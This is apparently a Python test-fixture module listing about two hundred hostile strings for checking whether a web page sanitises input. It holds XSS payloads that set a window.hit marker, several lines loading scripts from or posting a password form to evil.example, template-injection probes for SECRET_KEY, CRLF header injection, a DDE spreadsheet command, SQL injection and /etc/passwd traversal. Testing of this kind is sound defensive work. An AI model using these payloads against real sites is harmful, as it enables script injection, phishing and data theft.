"""Two hundred texts that were written to break a page: to set ``window.hit``, or to spoil the view."""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from itertools import product

HIT = "window.hit=1"

_SCRIPTS = (
    f"<script>{HIT}</script>",
    f"<SCRIPT>{HIT}</SCRIPT>",
    f"<script/x>{HIT}</script >",
    f"<scr<script>ipt>{HIT}</scr</script>ipt>",
    f"<<script>{HIT}//<</script>",
    "<script src=//evil.example/x.js></script>",
    "<script src='data:text/javascript,window.hit=1'></script>",
    f"<script type=module>{HIT}</script>",
    f"<!--><script>{HIT}</script-->",
    f"--!><script>{HIT}</script>",
    f"]]><script>{HIT}</script>",
    f"<![CDATA[<script>{HIT}</script>]]>",
    f"<noscript><p title='</noscript><script>{HIT}</script>'>",
)
_ENDINGS = tuple(
    f"</{tag}><script>{HIT}</script>"
    for tag in (
        "textarea",
        "title",
        "style",
        "script",
        "select",
        "option",
        "button",
        "td",
        "table",
        "svg",
        "q",
    )
)
_ELEMENTS = (
    ("img src=x", "onerror"),
    ("svg", "onload"),
    ("svg/", "onload"),
    ("body", "onload"),
    ("details open", "ontoggle"),
    ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("video src=x", "onerror"),
    ("audio src=x", "onerror"),
    ("iframe", "onload"),
    ("object data=x", "onerror"),
    ("marquee", "onstart"),
    ("p tabindex=0 autofocus", "onfocus"),
    ("style", "onload"),
    ("link rel=stylesheet href=x", "onerror"),
    ("div style=animation-name:x", "onanimationstart"),
)
_HANDLERS = tuple(f"<{element} {event}={HIT}>" for element, event in _ELEMENTS)
_QUOTES = ('"', "'", "`", '">', "'>", '" ', '\\"', "&quot;")
_BREAKOUTS = tuple(
    f"{quote}{rest}"
    for quote, rest in product(
        _QUOTES, (f" autofocus onfocus={HIT} x=", f"<img src=x onerror={HIT}>", f";{HIT};//", f"+{HIT}+")
    )
)
_LINKS = (
    f"javascript:{HIT}",
    f"JaVaScRiPt:{HIT}",
    f"java\tscript:{HIT}",
    f"java\nscript:{HIT}",
    f"\x01javascript:{HIT}",
    f"javascript&colon;{HIT}",
    f"&#106;avascript:{HIT}",
    f"javascript://%0a{HIT}",
    f"<a href=javascript:{HIT}>Hier</a>",
    f"<a href='&#1;javascript:{HIT}'>Hier</a>",
    f"<form action=javascript:{HIT}><button>Ja</button></form>",
    f"<button formaction=javascript:{HIT}>Ja</button>",
    f"<iframe src=javascript:{HIT}>",
    f"<iframe srcdoc='<script>parent.{HIT}</script>'>",
    f"<svg><a xlink:href=javascript:{HIT}><text y=9>Hier</text></a></svg>",
    f"<math href=javascript:{HIT}>Hier</math>",
    f"data:text/html,<script>{HIT}</script>",
    f"vbscript:{HIT}",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=import href=//evil.example>",
    "<img src=//evil.example/x.png>",
    "//evil.example",
    f"tel:+49<script>{HIT}</script>",
)
_DRAWN = (
    f"<svg><script>{HIT}</script></svg>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
    f"<svg><set onbegin={HIT} attributename=x>",
    f"<svg><foreignObject><img src=x onerror={HIT}></foreignObject></svg>",
    f"<svg><use href='data:image/svg+xml,<svg onload={HIT}>#x'/></svg>",
    f"<svg><style>*{{x:y}}</style><image href=x onerror={HIT}></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={HIT}>",
    f"<style>@import 'javascript:{HIT}';*{{display:none!important}}</style>",
    "<style>body{display:none}</style>",
    "<h1>Sie wurden abgemeldet</h1><form action=//evil.example><input name=password></form>",
    "<div style=position:fixed;inset:0;background:red>",
    "</main></body></html>",
    "<plaintext>",
    "<xmp>",
    "<frameset>",
)
_TEMPLATES = (
    "{{ 7 * 7 }}",
    "{% debug %}",
    "{% include 'base.html' %}",
    "{{ settings.SECRET_KEY }}",
    "{% endblock %}{% block content %}",
    "{# weg #}",
    f"{{{{constructor.constructor('{HIT}')()}}}}",
    f"${{{HIT}}}",
    f"#{{{HIT}}}",
    "<%= 7 * 7 %>",
    "[[7*7]]",
    "%(name)s %s %n {0} {0.__class__}",
    "{$x}",
    "-term = x",
)
_ENTITIES = (
    f"&lt;script&gt;{HIT}&lt;/script&gt;",
    f"&#60;script&#62;{HIT}&#60;/script&#62;",
    f"&#x3c;img src=x onerror={HIT}&#x3e;",
    f"&amp;lt;script&amp;gt;{HIT}",
    f"%3Cscript%3E{HIT}%3C/script%3E",
    f"\\u003cscript\\u003e{HIT}\\u003c/script\\u003e",
    f"\uff1cscript\uff1e{HIT}\uff1c/script\uff1e",
    "&nbsp;&shy;&zwj;&rlm;",
    "&#0;&#xD800;&#x110000;",
    "&bogus;&",
)
_DIRECTIONS = (
    "\u202egnp.exe",
    "\u202dlinks\u202c und \u202erechts",
    "\u2067\u2066nie zu",
    "\u200f\u200e\u061cunsichtbar",
    "م\u202eab\u2069cd",
    "a\u200bb\u200cc\u200dd\u2060e\ufefff",
    "\u00ad" * 40 + "weich",
    "e" + "\u0301" * 60,
    "\u2028Zeile\u2029Absatz\u0085Ende",
    "\u115f\u3164\u2800leer",
)
_LONG = (
    "W" * 270,
    "Donaudampfschifffahrt" * 12,
    "ﷺ" * 60,
    "漢" * 200,
    "_" * 250,
    "/" * 250,
    "\u00a0".join("fest" for _ in range(50)),
    "<" * 200,
    "&" * 200,
    "'\"" * 100,
)
_CONTROLS = (
    f"\x00<script>{HIT}</script>",
    f"<scr\x00ipt>{HIT}</scr\x00ipt>",
    "\x1b[2J\x1b]0;weg\x07",
    "\x08\x08\x08\x7f\x9b31m",
    "eins\r\nSet-Cookie: session=x\r\n\r\nzwei",
    "eins\tzwei\x0bdrei\x0cvier",
    "\ue000\uf8ff\U000f0000",
    "\ufffe\uffff\ufffd",
    "\x1e\x1f\x1c\x1d",
)
_FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("//evil.example","Hier")',
    "\t=1+1",
    "\r=1+1",
    ";=1+1",
    '";=1+1;"',
    "＝1+1",
    "%0A=1+1",
    "BEGIN:VEVENT\nEND:VCALENDAR",
)
_EMOJIS = (
    "😀" * 130,
    "🏳️‍🌈" * 40,
    "👨‍👩‍👧‍👦" * 30,
    "🇩🇪" * 60,
    "👍🏿" * 60,
    "#️⃣*️⃣0️⃣",
)
_HALVES = (
    "halb \ud83d",
    "\ude00 halb",
    "\udc00\ud800",
    "a\ud800b",
    f"\ud83c<script>{HIT}</script>",
    "\ud83d" * 40,
)
"""Broken UTF-16, as JSON can carry it."""
_OTHERS = (
    "'; DROP TABLE ticket; --",
    "../../../../etc/passwd",
    "null",
    "undefined",
    "True",
    f"<!--[if IE]><script>{HIT}</script><![endif]-->",
    "__proto__",
    '{"hit": 1}',
    "None",
    "0",
    "?suche=1&liste=meine#inhalt",
    "<?php echo 1 ?>",
)

PAYLOADS: Sequence[str] = tuple(
    dict.fromkeys(
        (
            *_SCRIPTS,
            *_ENDINGS,
            *_HANDLERS,
            *_BREAKOUTS,
            *_LINKS,
            *_DRAWN,
            *_TEMPLATES,
            *_ENTITIES,
            *_DIRECTIONS,
            *_LONG,
            *_CONTROLS,
            *_FORMULAS,
            *_EMOJIS,
            *_HALVES,
            *_OTHERS,
        )
    )
)


def joined(payloads: Sequence[str], longest: int) -> Iterator[str]:
    """The payloads as few texts of at most so many characters; each begins one or stands behind a blank."""
    text = ""
    for payload in payloads:
        if text and len(text) + 1 + len(payload) > longest:
            yield text
            text = ""
        text = f"{text} {payload}" if text else payload
    if text:
        yield text
